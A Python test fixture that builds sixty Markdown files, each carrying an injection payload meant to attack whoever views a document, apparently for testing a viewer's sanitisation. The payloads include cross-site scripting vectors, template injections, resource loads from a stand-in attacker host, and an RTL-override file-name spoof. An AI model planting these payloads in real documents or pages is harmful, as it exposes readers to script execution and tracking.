"""Sixty attacks on whoever reads a document: they run code, fetch from an outside host, or pass for another text."""

ADDRESS = "ATTACKER"
"""Stands for the attacker's host."""

RUN = "window.__x=1"

PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={ADDRESS}/1.js></SCRIPT>",
    f"<script>alert(1);{RUN}</script >",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror='{RUN}'>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{ADDRESS}/2.png">',
    f'<img srcset="{ADDRESS}/3.png 1x">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><image href="{ADDRESS}/4.svg"/></svg>',
    f'<svg><use href="{ADDRESS}/5.svg#a"/></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="{ADDRESS}/6.html"></iframe>',
    f'<object data="{ADDRESS}/7.swf"></object>',
    f'<embed src="{ADDRESS}/8.swf">',
    f'<video src="{ADDRESS}/9.mp4" autoplay></video>',
    f'<video poster="{ADDRESS}/10.png"></video>',
    f'<audio src="{ADDRESS}/11.mp3" autoplay onplay={RUN}></audio>',
    f"<video><source onerror={RUN} src=x></video>",
    f'<picture><source srcset="{ADDRESS}/12.png"><img></picture>',
    f'<input type=image src="{ADDRESS}/13.png">',
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f'<table background="{ADDRESS}/14.png"><tr><td>x</table>',
    f'<div style="background:url({ADDRESS}/15.png)">x</div>',
    f"<style>@import url({ADDRESS}/16.css);</style>",
    f'<style>*{{background:url("{ADDRESS}/17.png")}}</style>',
    f'<link rel=stylesheet href="{ADDRESS}/18.css">',
    f'<link rel=prefetch href="{ADDRESS}/19.html">',
    f'<base href="{ADDRESS}/">',
    f'<meta http-equiv=refresh content="0;url={ADDRESS}/20.html">',
    f'<form action="{ADDRESS}/21"><button autofocus>Go</button></form>',
    f'<a href="javascript:{RUN}">click</a>',
    f'<a href="{ADDRESS}/22" ping="{ADDRESS}/23">click</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">click</a>',
    f"![picture]({ADDRESS}/24.png)",
    f"[![picture]({ADDRESS}/25.png)]({ADDRESS}/26)",
    f"![picture][r] [r]: {ADDRESS}/27.png",
    f"[link](javascript:{RUN})",
    f"<{ADDRESS}/28.png>",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\url{{{ADDRESS}/29.png}}$$",
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"#{{{RUN}}} <%= {RUN} %> @{{{RUN}}}",
    f"`+({RUN})+`",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"</pre></textarea></title></script><img src=x onerror={RUN}>",
    f"\u202e\u2066<img src=x onerror={RUN}>\u2069 fdp.exe",
    f"<button data-evidence='x' data-copy='y' data-question='z' autofocus onfocus={RUN}>Ask</button>",
    "x" * 20_000 + f"<img src=x onerror={RUN}>",
)
assert len(PAYLOADS) == 60

COLLECTIONS = tuple(payload for payload in PAYLOADS if len(payload) <= 60 and "\u202e" not in payload)[:20]


def documents(address: str) -> dict[str, str | bytes]:
    """One Markdown file per attack: in its text, its title, its headings, a table, and (as far as can be) its name."""
    return {
        f"{number} {_file_name(payload)}.md": (
            f"# Title {number} {payload}\n\n## Part {payload}\n\n"
            f"The secret code of item {number} is ZX{number} {payload} and nothing else.\n\n"
            f"| Name | Value |\n|---|---|\n| item {number} | {payload} |\n"
        ).replace(ADDRESS, address)
        for number, payload in enumerate(PAYLOADS, start=1)
    }


def _file_name(payload: str) -> str:
    return payload.replace("/", "∕").replace(ADDRESS, "host")[:70]
